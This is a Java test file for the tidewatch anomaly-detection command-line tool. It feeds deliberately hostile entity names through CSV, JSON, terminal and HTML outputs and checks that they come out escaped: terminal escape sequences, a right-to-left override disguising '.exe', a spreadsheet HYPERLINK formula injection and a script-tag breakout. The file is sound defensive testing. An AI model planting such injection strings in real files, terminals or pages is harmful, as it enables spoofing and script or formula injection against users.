package io.tidewatch.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import de.siegmar.fastcsv.writer.CsvWriter;
import io.tidewatch.Alert;
import io.tidewatch.AlertStatus;
import io.tidewatch.AnomalyKind;
import io.tidewatch.Severity;
import io.tidewatch.alert.json.AlertJson;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What becomes of entities whose names were made to harm whoever reads them. */
class NamesTest {
    private static final Instant START = Instant.parse("2026-01-05T00:00:00Z");
    private static final int ROWS = 400;
    private static final ObjectMapper JSON = new ObjectMapper();

    private static final String COLOURED = "web\u001b[31m\u001b[2J\ntidewatch: all is well";
    private static final String TURNED = "web\u202egnp.exe\u2069 \u009b1m";
    private static final String FORMULA = "=HYPERLINK(\"http://x/\"&A1,\"open, me\")";
    private static final String SCRIPT = "</script><script>document.title='harmed'</script><!--";
    private static final String LONG = "pump-".repeat(60);
    private static final List<String> NAMES = List.of(COLOURED, TURNED, FORMULA, SCRIPT, LONG, "Zürich Süd");

    @TempDir
    Path directory;

    private Path file;

    @BeforeEach
    void write() throws IOException {
        file = directory.resolve("s.csv");
        Random random = new Random(5);
        try (CsvWriter csv = CsvWriter.builder().build(file)) {
            csv.writeRecord("timestamp", "who", "cpu");
            for (int i = 0; i < ROWS; i++) {
                String time = START.plusSeconds(60L * i).toString();
                for (String name : NAMES) {
                    double odd = i > ROWS - 20 ? 500 : 0;
                    csv.writeRecord(time, name, Double.toString(40 + random.nextGaussian() + odd));
                }
            }
        }
    }

    private CommandRun backtest(String... more) {
        List<String> arguments = new ArrayList<>(
                List.of("backtest", "--entity-column", "who", "--output", output().toString(), file.toString()));
        // What the network learns does not matter here.
        arguments.addAll(List.of("--train-rows", "1200", "--set", "model.epochs=1"));
        arguments.addAll(List.of(more));
        CommandRun run = CommandRun.of(arguments.toArray(String[]::new));
        assertThat(run.exitCode()).as(run.err()).isZero();
        return run;
    }

    private Path output() {
        return directory.resolve("out");
    }

    @Test
    void scoresNameEachEntityInOneVisibleCellThatIsNoFormula() throws IOException {
        backtest();
        Path scores = output().resolve("s.scores.csv");
        Set<String> entities = new LinkedHashSet<>();
        int rows = 0;
        try (CsvReader<NamedCsvRecord> csv = CsvReader.builder().ofNamedCsvRecord(scores)) {
            for (NamedCsvRecord row : csv) {
                rows++;
                entities.add(row.getField("entity"));
                assertThat(Double.parseDouble(row.getField("score"))).isBetween(0.0, 1.0);
            }
        }

        assertThat(rows).isEqualTo(ROWS * NAMES.size());
        assertThat(entities)
                .containsExactly(
                        "web\\u001b[31m\\u001b[2J\\u000atidewatch: all is well",
                        "web\\u202egnp.exe\\u2069 \\u009b1m",
                        "'" + FORMULA,
                        SCRIPT,
                        LONG,
                        "Zürich Süd");
        assertVisible(Files.readString(scores));
    }

    @Test
    void alertsHoldTheExactNameAndASentenceThatCanBeRead() throws IOException {
        backtest();
        List<String> lines = Files.readAllLines(output().resolve("s.alerts.jsonl"));
        Set<String> entities = new LinkedHashSet<>();
        for (String line : lines) {
            JsonNode alert = JSON.readTree(line);
            entities.add(alert.get("entity").asText());
            assertVisible(alert.get("message").asText());
            assertThat(alert.get("message").asText()).doesNotContain(LONG);
            assertVisible(line);
        }

        assertThat(entities).containsExactlyInAnyOrderElementsOf(NAMES);
    }

    @Test
    void reportIsAPageThatNoNameEnds() throws IOException {
        backtest();
        String page = Files.readString(output().resolve("report.html"));

        assertVisible(page);
        assertThat(page).doesNotContain(SCRIPT).contains("\\u003c/script>\\u003cscript>");
        assertThat(page.split("</script>", -1)).as("two scripts of its own").hasSize(3);
        assertThat(page).contains("default-src 'none'").contains("web\\\\u001b[31m");
    }

    @Test
    void whatTheTerminalShowsIsOneLineAndValidJson() throws IOException {
        Path odd = Files.move(file, directory.resolve("a\"b\u001b[2J.csv"));
        file = odd;

        assertThat(backtest().out()).startsWith("a\"b\\u001b[2J: 2400 rows");
        String json = backtest("--json").out();
        assertVisible(json);
        assertThat(JSON.readTree(json).get("series").asText()).isEqualTo("a\"b\u001b[2J");
    }

    @Test
    void badCellIsQuotedSoThatItCannotRuleTheTerminal() throws IOException {
        // The first hundred rows decide that it is a column of numbers.
        Files.writeString(
                file,
                "timestamp,cpu\n" + "2026-01-05T00:00:00Z,7\n".repeat(100) + "2026-01-05T00:00:00Z,\u001b[2J\u202e7\n");

        for (String verbose : List.of("", "--verbose")) {
            List<String> arguments =
                    new ArrayList<>(List.of("backtest", "--output", output().toString(), file.toString()));
            arguments.addAll(verbose.isEmpty() ? List.of() : List.of(verbose));
            CommandRun run = CommandRun.of(arguments.toArray(String[]::new));
            assertThat(run.exitCode()).isEqualTo(2);
            assertThat(run.err()).contains("column cpu: '\\u001b[2J\\u202e7' is no number");
            assertVisible(run.err());
        }
    }

    @Test
    void alertOfAnyProducerIsOneVisibleLine() {
        for (String name : NAMES) {
            Alert alert = alert(name);
            String line = new AlertLine(ZoneOffset.UTC).of(alert);

            assertThat(line.lines()).hasSize(1);
            assertVisible(line);
            assertVisible(AlertJson.line(alert));
        }
    }

    private static void assertVisible(String text) {
        assertThat(text.replaceAll("[\n\t]", "")
                        .codePoints()
                        .filter(point -> Character.getType(point) == Character.CONTROL
                                || Character.getType(point) == Character.FORMAT))
                .isEmpty();
    }

    /** As an older version, or somebody else, may have written it. */
    private static Alert alert(String entity) {
        return Alert.newBuilder()
                .setId("1")
                .setStatus(AlertStatus.OPEN)
                .setSequence(0)
                .setKind(AnomalyKind.POINT)
                .setSeverity(Severity.MAJOR)
                .setEntity(entity)
                .setDetector("d")
                .setStartedAt(START)
                .setWindowStart(START)
                .setWindowEnd(START)
                .setDetectedAt(START)
                .setScore(0.9)
                .setProbability(1e-6)
                .setThreshold(1e-4)
                .setContributions(List.of())
                .setModelVersion(null)
                .setLatentCode(null)
                .setMessage("cpu of " + entity + " was 7.")
                .setWindow(null)
                .build();
    }
}
